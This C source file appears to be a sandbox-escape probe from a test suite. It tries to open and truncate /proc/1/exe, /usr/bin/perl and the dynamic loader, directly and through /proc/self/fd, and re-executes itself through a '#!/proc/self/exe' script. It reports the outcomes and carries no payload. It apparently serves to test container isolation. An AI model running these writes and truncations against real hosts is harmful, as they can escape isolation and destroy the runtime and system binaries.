/* Goes for the program that set its box up: through /proc, and by having itself started as an interpreter. */
#include "escape.h"

static void try_to_write(const char *path)
{
	int reader = open(path, O_RDONLY | O_PATH);
	char through[64];
	snprintf(through, sizeof through, "/proc/self/fd/%d", reader);
	say("%s: write=%s truncate=%s", path, outcome(open(path, O_WRONLY)), outcome(truncate(path, 0)));
	say(" through a descriptor=%s\n", reader == -1 ? outcome(-1) : outcome(open(through, O_WRONLY)));
}

int main(int argc, char **argv)
{
	if (argc > 1) {
		char target[256] = "";
		ssize_t length = readlink("/proc/self/exe", target, sizeof target - 1);
		say("as an interpreter: %.*s\n", (int)length, target);
		return 0;
	}
	try_to_write("/proc/1/exe");
	try_to_write("/usr/bin/perl");
	try_to_write("/lib64/ld-linux-x86-64.so.2");
	int fd = open("escape-script", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
	(void)!write(fd, "#!/proc/self/exe\n", 17);
	close(fd);
	execl("escape-script", "escape-script", "as-script", (char *)NULL);
	say("exec=%s\n", outcome(-1));
	return 2;
}
